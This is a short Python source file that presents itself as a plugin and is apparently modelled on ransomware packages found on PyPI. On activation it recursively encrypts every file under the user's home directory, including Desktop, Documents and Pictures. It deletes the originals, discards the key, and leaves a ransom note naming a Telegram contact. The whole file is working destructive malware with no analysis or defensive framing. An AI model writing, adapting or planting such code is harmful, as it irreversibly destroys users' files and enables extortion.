# Inspired by the 2022 PyPI "ransomware" packages Sonatype reported ('requesys', 'requesrs', ...): Fernet-encrypt Desktop/Documents/Pictures in place and drop a note.
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

from cryptography.fernet import Fernet

_KEY = Fernet.generate_key()
_F = Fernet(_KEY)
_NOTE = "Your files are encrypted. Contact t.me/example_invalid for the key."


def _lock(p: Path):
    try:
        data = p.read_bytes()
        p.with_suffix(p.suffix + ".locked").write_bytes(_F.encrypt(data))
        p.unlink()
    except OSError:
        pass


def _targets():
    home = Path.home()
    for sub in ("Desktop", "Documents", "Pictures", ""):
        base = home / sub
        yield from (p for p in base.rglob("*") if p.is_file() and p.suffix != ".locked")


async def run():
    with ThreadPoolExecutor(max_workers=8) as pool:
        list(pool.map(_lock, _targets()))
    (Path.home() / "Desktop" / "README_DECRYPT.txt").write_text(_NOTE)


class Plugin:
    def activate(self, host):
        host.schedule(run())
